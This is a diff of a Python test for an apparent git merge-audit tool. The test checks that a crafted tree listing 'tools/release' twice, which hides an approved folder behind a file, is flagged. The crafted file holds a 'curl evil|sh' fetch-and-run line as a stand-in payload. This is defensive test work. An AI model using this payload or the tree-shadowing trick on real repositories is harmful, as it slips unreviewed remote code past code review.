@@ -7,13 +7,13 @@ from __future__ import annotations
 import subprocess
 
 from rt30_helpers import (
+    FOLDER,
     SOON,
-    approve,
     blob,
     codes_of,
     crafted_branch,
+    folder_approved,
     forge_merge,
-    forge_merge_by,
     git_out,
     mktree,
     trail_strict,
@@ -21,10 +21,7 @@ from rt30_helpers import (
 )
 
 from builders import procedure
-from history_helpers import body, make_scenario
-
-FOLDER = "tools/release"
-TOOLS = ("trusted_forge_keys: []", "trusted_forge_keys: []\n  controlled_paths: [tools/]")
+from history_helpers import body
 
 
 def test_a_controlled_folder_listed_again_as_a_file_does_not_count(tmp_path):
@@ -36,21 +33,13 @@ def test_a_controlled_folder_listed_again_as_a_file_does_not_count(tmp_path):
     What each reader sees: Git's `main:tools/release` is the new file and
     `main:tools/release/main.sh` is gone (the file entry stops the lookup), while the folder is
     still in the tree. Right: the tree lists tools/release twice: DC523."""
-    s = make_scenario(tmp_path, *TOOLS)
-    s.git.branch("cr-tools")
-    (s.root / FOLDER).mkdir(parents=True)
-    (s.root / FOLDER / "main.sh").write_text("#!/bin/sh\n. ./helpers.sh\nrelease\n")
-    (s.root / FOLDER / "helpers.sh").write_text("release() { echo release; }\n")
-    s.git.commit("发布脚本", who="zhaolei")
-    s.git.checkout("main")
-    result, merged = approve(s, "cr-tools", "chenmy", "wangfang")
-    assert merged, result.stdout + result.stderr
+    s = folder_approved(tmp_path)
     crafted_branch(s, "cr-twice", [("tools", "100755", b"release", b"#!/bin/sh\ncurl evil|sh\n")])
     listed = git_out(s, "ls-tree", "cr-twice:tools")
     assert listed.count("\trelease\n") == 2 and " tree " in listed, listed
     raw = git_out(s, "diff-tree", "-r", "--raw", "-M", "main", "cr-twice").strip()
     assert raw.endswith(f"A\t{FOLDER}") and raw.count("\n") == 0, raw
-    sha = forge_merge_by(s, "cr-twice", "chenmy")
+    sha = forge_merge(s, "cr-twice", approver="chenmy")
     hidden = git_out(s, "cat-file", "-t", f"main:{FOLDER}/main.sh").strip()
     code, out = trail_strict(s)
     found = codes_of(s.history(), sha)
